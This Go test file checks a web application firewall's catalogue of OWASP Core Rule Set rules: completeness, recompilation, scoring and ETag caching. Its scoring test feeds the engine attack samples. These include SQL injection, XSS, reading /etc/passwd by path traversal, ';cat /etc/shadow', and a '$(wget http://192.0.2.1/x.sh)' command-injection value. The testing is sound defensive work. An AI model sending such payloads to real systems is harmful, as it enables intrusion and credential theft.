package main

import (
	"encoding/json"
	"io/fs"
	"net/http"
	"net/http/httptest"
	"reflect"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
)

func testCatalogue(t *testing.T) map[int]CataloguedRule {
	t.Helper()
	made, err := catalogued()
	if err != nil {
		t.Fatal(err)
	}
	var read Catalogue
	if err := json.Unmarshal(made.body, &read); err != nil {
		t.Fatal(err)
	}
	byID := map[int]CataloguedRule{}
	for _, rule := range read.Rules {
		byID[rule.ID] = rule
	}
	if len(byID) != len(read.Rules) || read.CRSVersion == "" {
		t.Fatalf("%d rules, %d with different ids, of CRS %q", len(read.Rules), len(byID), read.CRSVersion)
	}
	return byID
}

func TestTheCatalogueHasEveryRuleOfTheRuleSet(t *testing.T) {
	catalogue := testCatalogue(t)
	names, err := fs.Glob(included, "@owasp_crs/*.conf")
	if err != nil {
		t.Fatal(err)
	}
	counted := 0
	for _, name := range names {
		content, err := fs.ReadFile(included, name)
		if err != nil {
			t.Fatal(err)
		}
		for _, match := range regexp.MustCompile(`"id:([0-9]+),`).FindAllStringSubmatch(string(content), -1) {
			counted++
			id, _ := strconv.Atoi(match[1])
			rule, there := catalogue[id]
			lines := strings.Split(string(content), "\n")
			if !there || !strings.HasSuffix(name, rule.File) {
				t.Errorf("%d of %s is not there: %+v", id, name, rule)
			} else if first, _, _ := strings.Cut(rule.SecLang, "\n"); rule.Line < 1 || lines[rule.Line-1] != first {
				t.Errorf("%d does not begin at line %d of %s", id, rule.Line, name)
			}
		}
	}
	if counted < 600 {
		t.Errorf("only %d rules in the files", counted)
	}
}

// A rule's text alone gives the rule again.
func TestTheTextOfARuleIsTheRule(t *testing.T) {
	data := regexp.MustCompile(`@pmFromFile `)
	for id, rule := range testCatalogue(t) {
		text := data.ReplaceAllString(rule.SecLang, "@pmFromFile @owasp_crs/")
		application, err := compile(ApplicationConfig{Name: "one", Directives: text + "\n"})
		if err != nil {
			t.Errorf("%d: %v\n%s", id, err, text)
			continue
		}
		again, err := rulesOf(application.waf)
		application.close()
		if err != nil || len(again) != 1 {
			t.Fatalf("%d gives %d rules: %v", id, len(again), err)
		}
		if want, got := ownText(rule.Rule), ownText(again[0]); !reflect.DeepEqual(want, got) {
			t.Errorf("%d\n%+v\n%+v", id, want, got)
		}
	}
}

// ownText is what a rule's text decides: exceptions are added afterwards, and a word list knows its folder.
func ownText(rule Rule) []any {
	facts := []any{rule.ID, rule.Phase, rule.Message, rule.Severity, rule.Tags}
	for _, link := range append([]Link{rule.Link}, rule.Chain...) {
		targets := slices.DeleteFunc(slices.Clone(link.Targets), func(target string) bool { return target[0] == '!' })
		facts = append(facts, strings.Replace(link.Operator, "@owasp_crs/", "", 1), targets, link.Transformations)
	}
	return facts
}

// What the catalogue says of points is what the engine adds: notices, warnings, errors and critical ones, chains, and one that
// matches twice.
func TestPointsAreWhatTheEngineAdds(t *testing.T) {
	catalogue := testCatalogue(t)
	application := compiledFor(t, strings.Replace(tuned("", ""), "Include @owasp_crs/*.conf",
		`SecAction "id:100200,phase:1,pass,nolog,t:none,setvar:tx.blocking_paranoia_level=4"`+"\nInclude @owasp_crs/*.conf", 1))
	seen := map[int]bool{}
	for _, question := range []Question{
		{Request: get("/?id=1%27%20OR%201=1--%20-")},
		{Request: get("/?a=%3Cscript%3Ealert(1)%3C/script%3E&b=%3Cscript%3Ealert(1)%3C/script%3E")},
		{Request: get("/?file=../../../../etc/passwd")},
		{Request: post("/login?x=%3Bcat%20/etc/shadow", form, "cmd=$(wget%20http://192.0.2.1/x.sh)")},
		{Request: &QuestionRequest{Client: "192.0.2.1", Method: "GET", URI: "/", Version: "1.1", Headers: [][2]string{{"Host", "192.0.2.7"}}}},
		{Request: get("/"), Response: &QuestionResponse{Status: 500, Version: "1.1", Headers: [][2]string{{"Content-Type", "text/html"}},
			Body: []byte("You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version")}},
	} {
		evaluation, err := evaluateGuarded(application, &question, evaluationTime, nil)
		if err != nil {
			t.Fatal(err)
		}
		inbound, outbound := 0, 0
		for _, fired := range evaluation.Rules {
			rule := catalogue[fired.ID]
			seen[rule.Points] = true
			if rule.Direction == "inbound" {
				inbound += rule.Points * times(fired)
			} else {
				outbound += rule.Points * times(fired)
			}
		}
		if in, out := sum(evaluation.Scores.Inbound), sum(evaluation.Scores.Outbound); inbound != in || outbound != out || in+out == 0 {
			t.Errorf("%s: the catalogue adds up to %d and %d, the engine to %d and %d", question.Request.URI, inbound, outbound, in, out)
		}
	}
	for _, points := range []int{2, 3, 4, 5} {
		if !seen[points] {
			t.Errorf("no rule of %d points fired", points)
		}
	}
}

// times is how often a rule counts: for each value at the last link of its chain.
func times(rule EvaluatedRule) int {
	last, count := 0, 0
	for _, match := range rule.Matches {
		last = max(last, match.Chain)
	}
	for _, match := range rule.Matches {
		if match.Chain == last {
			count++
		}
	}
	return max(1, count)
}

func sum(score Score) (all int) {
	for _, points := range score.ParanoiaLevels {
		all += points
	}
	return all
}

func TestRulesSayWhatTheyAreFor(t *testing.T) {
	catalogue := testCatalogue(t)
	for id, want := range map[int]string{
		942100: roleDetect, 943110: roleDetect, 951110: roleDetect, 200002: roleDetect, 949110: roleEvaluate, 959100: roleEvaluate,
		949052: roleEvaluate, 980170: roleReport, 942011: roleSkip, 950010: roleSkip, 901140: rolePrepare, 905100: rolePrepare,
		901001: rolePrepare,
	} {
		if got := catalogue[id].Role; got != want {
			t.Errorf("%d is for %q, want %q", id, got, want)
		}
	}
	for id, rule := range catalogue {
		if detects := rule.Role == roleDetect; detects && (rule.Message == "" || rule.Points == 0 && id >= 900_000) {
			t.Errorf("%d detects without points or words", id)
		} else if !detects && rule.Points > 0 {
			t.Errorf("%d adds points and does not detect", id)
		}
	}
}

func TestTheCatalogueIsSentOnce(t *testing.T) {
	ask := func(tag string) *http.Response {
		recorder := httptest.NewRecorder()
		request := httptest.NewRequest(http.MethodGet, "/v1/rules", nil)
		request.Header.Set("If-None-Match", tag)
		(&Agent{}).rules(recorder, request)
		return recorder.Result()
	}
	first := ask("")
	tag := first.Header.Get("ETag")
	if first.StatusCode != http.StatusOK || tag == "" || first.ContentLength < 100_000 {
		t.Fatalf("%d, %q, %d bytes", first.StatusCode, tag, first.ContentLength)
	}
	if again := ask(tag); again.StatusCode != http.StatusNotModified || again.Header.Get("ETag") != tag {
		t.Errorf("again: %d", again.StatusCode)
	}
	if other := ask(`"0"`); other.StatusCode != http.StatusOK {
		t.Errorf("another one's: %d", other.StatusCode)
	}
}

func BenchmarkCatalogue(b *testing.B) {
	for range b.N {
		if _, err := readCatalogue(); err != nil {
			b.Fatal(err)
		}
	}
}
